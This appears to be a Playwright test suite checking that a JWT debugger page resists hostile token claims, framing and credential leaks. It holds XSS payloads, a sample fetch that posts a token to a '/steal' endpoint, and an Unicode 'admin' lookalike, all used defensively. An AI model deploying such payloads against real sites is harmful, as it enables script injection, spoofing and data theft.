"""The page under attack, in a real browser: the CSP holds, hostile claims stay text."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re

import pytest
from playwright.sync_api import expect

from ..conftest import ROOT, SECRET, open_panels


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _hs256(header: dict, payload: dict) -> str:
    signing_input = (
        f"{_b64url(json.dumps(header).encode())}.{_b64url(json.dumps(payload).encode())}"
    )
    signature = hmac.new(SECRET.encode(), signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64url(signature)}"


def _paste(page, token: str, key: str) -> None:
    page.locator("#token").fill(token)
    page.locator("#key").fill(key)


# Each payload sets window.__pwned if it ever runs.
SCRIPT = "<script>window.__pwned = 'script'</script>"
IMG = "<img src=x onerror=\"window.__pwned = 'img'\">"
SVG = '"><svg onload="window.__pwned = \'svg\'"></svg>'
JS_URL = "javascript:window.__pwned='url'"
ENTITIES = "&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;i&#62;"
RTL = "\u202etxt.exe\u202c admin\u2067\u2066"
LONG = "W" * 6000


def _hostile_token() -> str:
    header = {
        "alg": "HS256",
        "typ": SCRIPT,
        "kid": IMG + LONG,
        "jku": JS_URL,
        "x5u": JS_URL,
        "cty": SVG,
    }
    payload = {
        "sub": SCRIPT,
        "name": IMG,
        "iss": JS_URL,
        "aud": [JS_URL, SVG],
        "website": JS_URL,
        "note": ENTITIES,
        "role": RTL,
        LONG: LONG,
        "nested": {"deep": [SCRIPT, {"x": IMG}]},
        "exp": SVG,
    }
    return _hs256(header, payload)


HOSTILE_DOM = """() => ({
    pwned: window.__pwned ?? null,
    handlers: document.querySelectorAll("[onerror], [onload], [onclick], [onmouseover]").length,
    injected: [...document.querySelectorAll("script, img, svg, iframe, object, embed")]
        .filter((node) => !(node.tagName === "SCRIPT" && node.src.startsWith(location.origin)))
        .map((node) => node.outerHTML.slice(0, 80)),
    jsLinks: [...document.querySelectorAll("[href], [src], [action], [formaction]")]
        .map((node) => node.getAttribute("href") || node.getAttribute("src") || "")
        .filter((value) => /^\\s*javascript:/i.test(value)),
    overflow: document.documentElement.scrollWidth - window.innerWidth,
})"""


def test_hostile_claims_are_shown_as_text_and_nothing_runs(page):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    _paste(page, _hostile_token(), SECRET)

    expect(page.locator("#verdict")).to_contain_text("Signature verified")
    payload_text = page.locator("#payload").input_value()
    # Every hostile string is there, as text, exactly as the token holds it.
    for text in (SCRIPT, IMG, ENTITIES, RTL):
        assert json.dumps(text)[1:-1] in payload_text or text in payload_text
    assert "&lt;b&gt;" in payload_text  # entities are not decoded either
    page.wait_for_timeout(300)  # let any image error or load handler fire, if one had been made
    state = page.evaluate(HOSTILE_DOM)
    assert state["pwned"] is None, state
    assert state["handlers"] == 0, state
    assert state["injected"] == [], state
    assert state["jsLinks"] == [], state
    assert not dialogs


@pytest.mark.parametrize("width", (1280, 390))
def test_very_long_unbroken_claims_do_not_break_the_layout(page, width):
    page.set_viewport_size({"width": width, "height": 900})

    _paste(page, _hostile_token(), SECRET)

    expect(page.locator("#verdict")).to_contain_text("Signature verified")
    state = page.evaluate(HOSTILE_DOM)
    assert state["overflow"] <= 0, f"the page scrolls sideways by {state['overflow']} px"
    # The main controls are still on screen and usable.
    for selector in ("#token", "#key", "#payload", "#verdict"):
        box = page.locator(selector).bounding_box()
        assert box is not None and box["width"] > 50 and box["x"] + box["width"] <= width + 1


def test_the_content_security_policy_blocks_inline_script_and_foreign_requests(page):
    result = page.evaluate(
        """() => new Promise((resolve) => {
            const violations = [];
            document.addEventListener("securitypolicyviolation", (event) => {
                violations.push(event.effectiveDirective);
            });
            window.__inline = "not run";
            const script = document.createElement("script");
            script.textContent = "window.__inline = 'ran'";
            document.head.append(script);
            const button = document.createElement("button");
            button.setAttribute("onclick", "window.__inline = 'handler ran'");
            document.body.append(button);
            button.click();
            const image = new Image();
            image.src = "http://127.0.0.2:9/pixel.png";
            let fetched = "not blocked";
            fetch("http://127.0.0.2:9/steal", { method: "POST", body: "token" })
                .then(() => { fetched = "sent"; }, () => { fetched = "blocked"; });
            setTimeout(() => resolve({ inline: window.__inline, fetched, violations }), 500);
        })"""
    )
    assert result["inline"] == "not run", result
    assert result["fetched"] == "blocked", result
    violations = set(result["violations"])
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= violations, result


def test_the_page_cannot_be_framed_by_another_site(browser, server):
    context = browser.new_context()
    try:
        framing = context.new_page()
        framing.set_content(f'<iframe src="{server.url}" width="600" height="400"></iframe>')
        framing.wait_for_timeout(1000)
        frame = next(frame for frame in framing.frames if frame is not framing.main_frame)
        # Blocked by frame-ancestors 'none': the frame never holds the debugger.
        assert frame.url != server.url or frame.locator("#token").count() == 0
        assert framing.locator("iframe").content_frame.locator("#token").count() == 0
    finally:
        context.close()


#: The one place that parses HTML: the key tools' markup, from the server's own fixed template
#: (GET /panels/keys renders no request data), inserted when the panel first opens.
PANEL_MARKUP = ("fold.js", "template.innerHTML = await response.text();")


def test_no_script_writes_html():
    """Claims are written with textContent or DOM nodes: no script parses text as HTML."""
    sinks = re.compile(
        r"\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write|\beval\(|DOMParser"
        r"|createContextualFragment"
    )
    for script in sorted((ROOT / "static").glob("*.js")):
        found = [
            line
            for line in script.read_text().splitlines()
            if sinks.search(line)
            and not (script.name == PANEL_MARKUP[0] and PANEL_MARKUP[1] in line)
        ]
        assert not found, f"{script.name}: {found}"


def test_the_page_sends_credentials_only_in_post_bodies_to_its_own_server(browser, server):
    context = browser.new_context()
    requests: list[tuple[str, str]] = []
    context.on("request", lambda request: requests.append((request.method, request.url)))
    try:
        page = context.new_page()
        page.goto(server.url)
        token = _hs256({"alg": "HS256", "typ": "JWT"}, {"sub": "privacy-check"})
        _paste(page, token, SECRET)
        expect(page.locator("#verdict")).to_contain_text("Signature verified")
        page.locator("#payload").fill('{"sub": "privacy-check", "admin": true}')
        expect(page.locator("#token")).not_to_have_value(token)
        expect(page.locator("#verdict")).to_contain_text("Signature verified")
        links = page.evaluate(
            "() => [location.href, ...[...document.querySelectorAll('[href], [src]')]"
            ".map((node) => node.href || node.src || '')]"
        )
    finally:
        context.close()
    assert any(method == "POST" for method, _ in requests)
    for _, url in requests:
        assert url.startswith(server.url) or url.startswith("data:"), url
        assert SECRET not in url and token.split(".")[1] not in url, url
    for url in links:
        assert SECRET not in url, url
        # A token may only ever travel in the #fragment, which browsers never send.
        assert token.split(".")[2] not in url.split("#", 1)[0], url


ADMIN_LOOKALIKE = "\u202enimda\u202c"  # shows as "admin"


def _hs256_raw(payload: dict) -> str:
    """Like _hs256, with the characters written as themselves in the JSON, not as escapes."""
    header = _b64url(b'{"alg":"HS256","typ":"JWT"}')
    signing_input = f"{header}.{_b64url(json.dumps(payload, ensure_ascii=False).encode())}"
    signature = hmac.new(SECRET.encode(), signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64url(signature)}"


def _claims_of(token: str) -> dict:
    payload = token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))


def test_user_sees_the_hidden_characters_of_a_sub_that_reads_admin(page):
    token = _hs256_raw({"sub": ADMIN_LOOKALIKE, "name": "Ada", "exp": 4_000_000_000})
    assert ADMIN_LOOKALIKE.encode() in base64.urlsafe_b64decode(token.split(".")[1] + "==")

    _paste(page, token, SECRET)

    expect(page.locator("#verdict")).to_contain_text("Signature verified")
    # The payload editor holds the real characters; the warning below it marks each one.
    assert f'"sub": "{ADMIN_LOOKALIKE}"' in page.locator("#payload").input_value()
    warning = page.locator("#payload-hidden")
    expect(warning).to_be_visible()
    expect(warning).to_contain_text("The payload holds 2 hidden characters")
    expect(warning).to_contain_text('line 2, column 11: "sub": "⟨U+202E⟩nimda⟨U+202C⟩"')
    marker = warning.locator(".invisible-char").first
    expect(marker).to_be_visible()
    expect(marker).to_have_attribute("title", "U+202E RIGHT-TO-LEFT OVERRIDE")
    expect(page.locator("#header-hidden")).to_be_hidden()
    # The claims table (in the folded Explain panel) shows markers instead of the characters:
    # the cell no longer reads "admin".
    open_panels(page)
    cell = page.locator("#claims-rows tr[data-name=sub] td.ex-value code")
    expect(cell).to_have_text("⟨U+202E⟩nimda⟨U+202C⟩")
    expect(cell.locator(".invisible-char")).to_have_count(2)
    expect(cell.locator(".invisible-char").last).to_have_attribute(
        "title", "U+202C POP DIRECTIONAL FORMATTING"
    )
    assert "\u202e" not in cell.inner_text()
    expect(page.locator("#claims-rows tr[data-name=name] .invisible-char")).to_have_count(0)
    # And the findings say which claim holds which characters.
    finding = (
        page.get_by_role("list", name="Security findings")
        .get_by_role("listitem")
        .filter(has_text="invisible-characters")
    )
    expect(finding).to_contain_text("Invisible or bidirectional characters")
    expect(finding).to_contain_text('The claim "sub" contains U+202E RIGHT-TO-LEFT OVERRIDE')


def test_editing_the_payload_re_signs_the_hidden_characters_as_they_are(page):
    _paste(page, _hs256_raw({"sub": ADMIN_LOOKALIKE, "exp": 4_000_000_000}), SECRET)
    expect(page.locator("#payload-hidden")).to_contain_text("⟨U+202E⟩nimda⟨U+202C⟩")
    old_token = page.locator("#token").input_value()

    payload = page.locator("#payload")
    payload.fill(payload.input_value().replace("4000000000", "4000000001"))

    expect(page.locator("#token")).not_to_have_value(old_token)
    expect(page.locator("#verdict")).to_contain_text("Signature verified")
    claims = _claims_of(page.locator("#token").input_value())
    assert claims == {"sub": ADMIN_LOOKALIKE, "exp": 4_000_000_001}
    expect(page.locator("#payload-hidden")).to_contain_text("⟨U+202E⟩nimda⟨U+202C⟩")


def test_the_warning_goes_when_the_hidden_characters_are_removed(page):
    _paste(page, _hs256_raw({"sub": ADMIN_LOOKALIKE, "exp": 4_000_000_000}), SECRET)
    expect(page.locator("#payload-hidden")).to_be_visible()

    payload = page.locator("#payload")
    payload.fill(payload.input_value().replace("\u202e", "").replace("\u202c", ""))

    expect(page.locator("#payload-hidden")).to_be_hidden()
    open_panels(page)  # the claims table is in the folded Explain panel
    expect(page.locator("#claims-rows tr[data-name=sub] td.ex-value code")).to_have_text("nimda")
